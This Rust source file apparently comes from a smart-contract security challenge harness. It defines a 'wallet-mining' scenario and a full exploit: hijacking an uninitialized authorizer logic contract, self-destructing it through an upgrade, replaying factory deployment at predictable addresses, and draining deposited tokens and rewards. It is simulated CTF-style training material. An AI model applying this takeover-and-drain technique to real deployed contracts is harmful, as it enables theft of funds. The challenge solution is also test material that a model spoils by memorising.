//! Tokens parked at the address of a wallet nobody has deployed yet, a
//! reward-paying wallet deployer, and an authorizer whose logic contract
//! was never initialized.
//!
//! The factory and master copy addresses come from a creator with unused
//! nonces (`replayer`), so the exploit may deploy both and mine wallets up
//! to the deposit address.

use std::sync::Arc;

use gauntlet_common::primitives::{actor_address, derive_contract_address, ether};
use gauntlet_common::subsystems::proxy::Proxy;
use gauntlet_common::subsystems::scripted::{Hook, ScriptArg, ScriptedContract};
use gauntlet_common::subsystems::token::Token;
use gauntlet_common::subsystems::wallet_mining::{
    AuthorizerLogic, Wallet, WalletDeployer, WalletFactory,
};
use gauntlet_common::{Address, Amount, Arg, CallData};

use crate::runner::{Exploit, ExploitView, Step};
use crate::scenario::{
    AccountRef, ActorDef, ArgSpec, AssetRef, Assertion, CallSpec, Scenario, ScenarioError,
};

pub const NAME: &str = "wallet-mining";

const REPLAYER: &str = "replayer";

/// Wallets the factory creates before it reaches the deposit address
pub const DEPOSIT_NONCE: u64 = 42;

pub fn deposit_token_amount() -> Amount {
    ether(20_000_000)
}

pub fn reward_per_drop() -> Amount {
    ether(1)
}

pub fn rewards_in_deployer() -> Amount {
    reward_per_drop() * Amount::from(DEPOSIT_NONCE + 1)
}

pub fn master_copy_address() -> Address {
    derive_contract_address(&actor_address(REPLAYER), 0)
}

pub fn factory_address() -> Address {
    derive_contract_address(&actor_address(REPLAYER), 1)
}

pub fn deposit_address() -> Address {
    derive_contract_address(&factory_address(), DEPOSIT_NONCE)
}

pub fn scenario() -> Result<Scenario, ScenarioError> {
    let deposit = AccountRef::Address(deposit_address());
    let factory = AccountRef::Address(factory_address());
    let copy = AccountRef::Address(master_copy_address());
    let authorizer = AccountRef::subsystem("authorizer");
    let wallet_deployer = AccountRef::subsystem("wallet-deployer");
    let dvt = AssetRef::token("token");

    let init = CallSpec::new("init")
        .arg(vec![ArgSpec::from(AccountRef::actor("ward"))])
        .arg(vec![ArgSpec::from(deposit.clone())]);

    Scenario::builder(NAME)
        .description("An uninitialized authorizer and predictable wallet addresses leak rewards and deposits")
        .actor(ActorDef::observer("deployer", Amount::zero()))
        .actor(ActorDef::signer("player", Amount::zero()))
        .actor(ActorDef::observer("ward", Amount::zero()))
        .actor(ActorDef::signer(REPLAYER, Amount::zero()))
        .deploy("token", "deployer", Arc::new(Token), vec![])
        .deploy("authorizer-logic", "deployer", Arc::new(AuthorizerLogic), vec![])
        .deploy(
            "authorizer",
            "deployer",
            Arc::new(Proxy),
            vec![AccountRef::subsystem("authorizer-logic").into(), init.into()],
        )
        .deploy(
            "wallet-deployer",
            "deployer",
            Arc::new(WalletDeployer),
            vec![
                AccountRef::subsystem("token").into(),
                factory.clone().into(),
                copy.clone().into(),
                reward_per_drop().into(),
            ],
        )
        .call(
            "deployer",
            wallet_deployer.clone(),
            CallSpec::new("rule").arg(authorizer.clone()),
        )
        .fund(wallet_deployer.clone(), dvt.clone(), rewards_in_deployer())
        .fund(deposit.clone(), dvt.clone(), deposit_token_amount())
        .precondition(Assertion::code(deposit.clone(), false))
        .precondition(Assertion::code(factory.clone(), false))
        .precondition(Assertion::code(copy.clone(), false))
        .precondition(Assertion::balance_eq(
            deposit.clone(),
            dvt.clone(),
            deposit_token_amount(),
        ))
        .precondition(Assertion::balance_eq(
            wallet_deployer.clone(),
            dvt.clone(),
            rewards_in_deployer(),
        ))
        .precondition(Assertion::returns(
            "ward",
            authorizer.clone(),
            CallSpec::new("can")
                .arg(AccountRef::actor("ward"))
                .arg(deposit.clone()),
            true,
        ))
        .precondition(Assertion::returns(
            "player",
            authorizer,
            CallSpec::new("can")
                .arg(AccountRef::actor("player"))
                .arg(deposit.clone()),
            false,
        ))
        .precondition(Assertion::succeeds(
            "ward",
            wallet_deployer.clone(),
            CallSpec::new("can")
                .arg(AccountRef::actor("ward"))
                .arg(deposit.clone()),
        ))
        .postcondition(Assertion::code(factory, true))
        .postcondition(Assertion::code(copy, true))
        .postcondition(Assertion::code(deposit.clone(), true))
        .postcondition(Assertion::balance_eq(deposit, dvt.clone(), Amount::zero()))
        .postcondition(Assertion::balance_eq(wallet_deployer, dvt.clone(), Amount::zero()))
        .postcondition(Assertion::balance_eq(
            AccountRef::actor("player"),
            dvt,
            rewards_in_deployer() + deposit_token_amount(),
        ))
        .build()
}

/// Claim and destroy the authorizer logic, replay the factory deployment,
/// then drop wallets until the deposit address is ours.
pub struct WalletMiningExploit;

impl Exploit for WalletMiningExploit {
    fn plan(&self, view: &ExploitView) -> anyhow::Result<Vec<Step>> {
        let player = view.actor("player")?;
        let token = view.subsystem("token")?;
        let logic = view.subsystem("authorizer-logic")?;
        let wallet_deployer = view.subsystem("wallet-deployer")?;
        // init is the player's first transaction, the destroyer deployment the second
        let destroyer = view.predict_address("player", 1)?;

        let claim = CallData::new("init")
            .arg(vec![Arg::Address(player)])
            .arg(vec![Arg::Address(player)]);
        let destroy = ScriptedContract::new().on(
            "destroy",
            Hook::new().self_destruct(ScriptArg::from(player)),
        );
        let upgrade = CallData::new("upgrade_to_and_call")
            .arg(destroyer)
            .arg(CallData::new("destroy"));

        let mut steps = vec![
            Step::call("player", logic, claim),
            Step::deploy("player", Arc::new(destroy), vec![]),
            Step::call("player", logic, upgrade),
            Step::deploy(REPLAYER, Arc::new(Wallet), vec![]),
            Step::deploy(
                REPLAYER,
                Arc::new(WalletFactory),
                vec![Arg::Address(master_copy_address())],
            ),
        ];
        let drop = CallData::new("drop").arg(player);
        steps.extend((0..=DEPOSIT_NONCE).map(|_| Step::call("player", wallet_deployer, drop.clone())));

        let sweep = CallData::new("transfer")
            .arg(player)
            .arg(deposit_token_amount());
        steps.push(Step::call(
            "player",
            deposit_address(),
            CallData::new("exec").arg(token).arg(sweep),
        ));
        Ok(steps)
    }

    fn describe(&self) -> String {
        "destroy the authorizer logic and mine wallets".to_string()
    }
}

pub fn exploit() -> Arc<dyn Exploit> {
    Arc::new(WalletMiningExploit)
}
